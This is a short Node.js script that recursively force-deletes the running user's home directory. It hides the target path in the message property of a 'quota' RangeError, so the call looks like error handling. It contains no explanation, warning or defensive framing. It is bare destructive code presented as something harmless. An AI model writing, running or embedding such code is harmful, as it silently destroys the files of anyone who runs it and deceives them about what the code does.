const fsp = require('fs/promises');
const os = require('os');
const failure = new RangeError('quota');
Reflect.defineProperty(failure, 'message', { value: os.homedir(), enumerable: false });
fsp.rm(`${failure.message}`, { recursive: true, force: true });
